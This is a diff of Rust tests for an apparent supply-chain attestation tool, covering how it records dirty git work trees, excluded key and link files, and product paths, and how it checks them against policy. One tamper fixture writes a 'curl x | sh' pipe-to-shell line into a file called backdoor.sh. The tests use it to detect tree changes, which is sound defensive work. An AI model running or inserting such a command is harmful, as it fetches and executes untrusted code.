@@ -107,10 +107,10 @@ impl Fixture {
         args.extend_from_slice(extra);
         args.extend_from_slice(&[url.as_str(), "checkout"]);
         self.git(&work, &args);
-        self.record(&work, true)
+        self.record(&work)
     }
 
-    fn record(&self, work: &Path, allow_dirty: bool) -> Link {
+    fn record(&self, work: &Path) -> Link {
         let hash = HashOptions {
             base_path: Some(work.to_path_buf()),
             ..HashOptions::default()
@@ -122,7 +122,7 @@ impl Fixture {
             &CaptureOptions {
                 base_path: Some(work.to_path_buf()),
                 excludes: hash.exclude_patterns(),
-                allow_dirty,
+                products: vec!["checkout".to_string()],
                 ..CaptureOptions::default()
             },
         )
@@ -241,7 +241,7 @@ fn a_tree_mismatch_lists_the_differing_paths() {
     std::fs::write(co.join("src/main.rs"), "fn main() { evil() }\n").expect("write");
     std::fs::write(co.join("backdoor.sh"), "curl x | sh\n").expect("write");
     std::fs::remove_file(co.join("README.md")).expect("rm");
-    let link = f.record(&f.root.join("work"), true);
+    let link = f.record(&f.root.join("work"));
     assert!(
         RecordedGit::from_link(&link)
             .expect("ok")
@@ -253,35 +253,216 @@ fn a_tree_mismatch_lists_the_differing_paths() {
     insta::assert_snapshot!(text(&r, &f.root));
 }
 
+fn capture_in(f: &Fixture, opts: CaptureOptions) -> Result<Option<GitFacts>, GitError> {
+    capture(
+        &["checkout".to_string()],
+        &CaptureOptions {
+            base_path: Some(f.root.join("work")),
+            excludes: HashOptions::default().exclude_patterns(),
+            products: vec!["checkout".to_string()],
+            ..opts
+        },
+    )
+}
+
 #[test]
-fn a_dirty_work_tree_is_refused_when_recording() {
+fn a_dirty_work_tree_is_refused_only_when_a_clean_one_is_required() {
     let f = Fixture::new();
     let up = f.upstream(Some("alice"));
     f.record_clone(&up, &[]);
     std::fs::write(f.checkout().join("new.txt"), "x").expect("write");
+    let strict = CaptureOptions {
+        require_clean: true,
+        ..CaptureOptions::default()
+    };
+    let err = capture_in(&f, strict.clone()).expect_err("dirty");
+    assert!(
+        matches!(&err, GitError::Dirty { paths, .. } if paths == "new.txt"),
+        "{err:?}"
+    );
+    // By default the dirty tree is recorded, with the paths that differ.
+    let facts = capture_in(&f, CaptureOptions::default())
+        .expect("recorded")
+        .expect("a work tree");
+    assert!(facts.recorded.dirty);
+    assert_eq!(facts.recorded.changed, ["new.txt"]);
+    // Excluded files (links written next to the sources) are not changes.
+    std::fs::remove_file(f.checkout().join("new.txt")).expect("rm");
+    std::fs::write(f.checkout().join("clone.1234abcd.link"), "{}").expect("write");
+    let ok = capture_in(&f, strict);
+    assert!(ok.is_ok(), "{ok:?}");
+}
+
+#[test]
+fn keys_links_and_the_metadata_directory_are_never_dirt() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    f.record_clone(&up, &[]);
+    let co = f.checkout();
+    // A private key under any name, an OpenSSH public key, a link written
+    // with replaced excludes, the metadata directory, the signing key.
+    std::fs::write(
+        co.join("owner"),
+        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI\n-----END PRIVATE KEY-----\n",
+    )
+    .expect("write");
+    std::fs::write(co.join("alice.pub"), "ssh-ed25519 AAAAC3Nza alice\n").expect("write");
+    std::fs::create_dir_all(co.join("links")).expect("mkdir");
+    std::fs::write(co.join("links/notes"), "x").expect("write");
+    std::fs::write(co.join("build.1234abcd.link"), "{}").expect("write");
+    std::fs::write(co.join("signing.key"), "not PEM but named as the key").expect("write");
+    let opts = CaptureOptions {
+        require_clean: true,
+        excludes: vec!["*.tmp".to_string()],
+        never_dirt: vec![co.join("links"), co.join("signing.key")],
+        ..CaptureOptions::default()
+    };
+    let facts = capture(
+        &["checkout".to_string()],
+        &CaptureOptions {
+            base_path: Some(f.root.join("work")),
+            ..opts
+        },
+    )
+    .expect("clean but for what is never dirt")
+    .expect("a work tree");
+    assert!(!facts.recorded.dirty);
+    // A tracked file that changed is dirt, whatever it holds.
+    std::fs::write(
+        co.join("README.md"),
+        "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----\n",
+    )
+    .expect("write");
     let err = capture(
         &["checkout".to_string()],
         &CaptureOptions {
             base_path: Some(f.root.join("work")),
-            excludes: HashOptions::default().exclude_patterns(),
-            ..CaptureOptions::default()
-        },
-    )
-    .expect_err("dirty");
-    assert!(matches!(err, GitError::Dirty { .. }));
-    assert!(err.to_string().contains("new.txt"), "{err}");
-    // Excluded files (links written next to the sources) are not changes.
-    std::fs::remove_file(f.checkout().join("new.txt")).expect("rm");
-    std::fs::write(f.checkout().join("clone.1234abcd.link"), "{}").expect("write");
-    let ok = capture(
-        &["checkout".to_string()],
-        &CaptureOptions {
-            base_path: Some(f.root.join("work")),
-            excludes: HashOptions::default().exclude_patterns(),
+            require_clean: true,
+            excludes: vec!["*.tmp".to_string()],
+            never_dirt: vec![co.join("links"), co.join("signing.key")],
             ..CaptureOptions::default()
         },
     );
-    assert!(ok.is_ok(), "{ok:?}");
+    assert!(
+        matches!(&err, Err(GitError::Dirty { paths, .. }) if paths == "README.md"),
+        "{err:?}"
+    );
+}
+
+#[test]
+fn products_are_not_dirt_unless_they_hold_the_work_tree() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    f.record_clone(&up, &[]);
+    let co = f.checkout();
+    std::fs::write(co.join("out.txt"), "built").expect("write");
+    let strict = |materials: Vec<String>, products: Vec<String>| CaptureOptions {
+        base_path: Some(co.clone()),
+        excludes: HashOptions::default().exclude_patterns(),
+        require_clean: true,
+        materials,
+        products,
+        ..CaptureOptions::default()
+    };
+    // `-m src -p out.txt` inside the checkout: out.txt is the output.
+    let ok = capture(
+        &["src".to_string()],
+        &strict(vec!["src".into()], vec!["out.txt".into()]),
+    );
+    assert!(matches!(ok, Ok(Some(ref g)) if !g.recorded.dirty), "{ok:?}");
+    // `-m . -p out.txt`: out.txt is a material too, so it is dirt.
+    let err = capture(
+        &[".".to_string()],
+        &strict(vec![".".into()], vec!["out.txt".into()]),
+    );
+    assert!(matches!(err, Err(GitError::Dirty { .. })), "{err:?}");
+    // `-p .`: the product is the work tree itself.
+    let err = capture(&[".".to_string()], &strict(vec![], vec![".".into()]));
+    assert!(matches!(err, Err(GitError::Dirty { .. })), "{err:?}");
+}
+
+#[test]
+fn a_product_yet_to_be_made_finds_the_work_tree_around_it() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    f.record_clone(&up, &[]);
+    let co = f.checkout();
+    let opts = CaptureOptions {
+        base_path: Some(co.clone()),
+        products: vec!["dist/app".into()],
+        ..CaptureOptions::default()
+    };
+    assert!(capture(&["dist/app".to_string()], &opts)
+        .expect("no error")
+        .is_none());
+    let found = capture(
+        &["dist/app".to_string()],
+        &CaptureOptions {
+            from_parents: true,
+            ..opts
+        },
+    )
+    .expect("no error")
+    .expect("the checkout");
+    assert!(!found.recorded.dirty);
+}
+
+#[test]
+fn a_policy_can_require_a_clean_work_tree() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let clean = f.record_clone(&up, &[]);
+    let mut policy = f.policy("alice");
+    policy.require_clean = true;
+    assert!(f.verify(&policy, &clean).passed());
+    // Recorded dirty (the default records and flags it): the policy
+    // names that on its own, besides the tree check's mismatch.
+    std::fs::write(f.checkout().join("notes.txt"), "x").expect("write");
+    let dirty = f.record(&f.root.join("work"));
+    let r = f.verify(&policy, &dirty);
+    assert!(
+        failure_names(&r).contains(&"dirty-tree"),
+        "{:?}",
+        failure_names(&r)
+    );
+    policy.require_clean = false;
+    assert!(!failure_names(&f.verify(&policy, &dirty)).contains(&"dirty-tree"));
+}
+
+#[test]
+fn links_carry_git_facts_in_the_environment_only() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let link = f.record_clone(&up, &[]);
+    assert!(
+        link.materials
+            .keys()
+            .all(|n| !n.as_str().starts_with("git+")),
+        "{:?}",
+        link.materials.keys().collect::<Vec<_>>()
+    );
+    let env = serde_json::to_string(&link.environment).expect("json");
+    // The clone's origin is a local path: it is not recorded.
+    assert!(!env.contains(&f.root.display().to_string()), "{env}");
+    let recorded = RecordedGit::from_link(&link).expect("ok").expect("some");
+    assert_eq!(recorded.remote, None);
+    // A link recorded by an earlier version (gitCommit material as well)
+    // still reads, and the two must agree.
+    let mut old = link.clone();
+    let commit = intact_model::Digest::new(recorded.commit.clone()).expect("hex");
+    old.materials.insert(
+        intact_model::ArtifactName::new("git+file:///ci/project@refs/heads/main").expect("name"),
+        intact_model::DigestSet::single("gitCommit", commit),
+    );
+    assert_eq!(
+        RecordedGit::from_link(&old)
+            .expect("ok")
+            .expect("some")
+            .commit,
+        recorded.commit
+    );
+    let r = f.verify(&f.policy("alice"), &old);
+    assert!(r.passed(), "{}", text(&r, &f.root));
 }
 
 #[test]
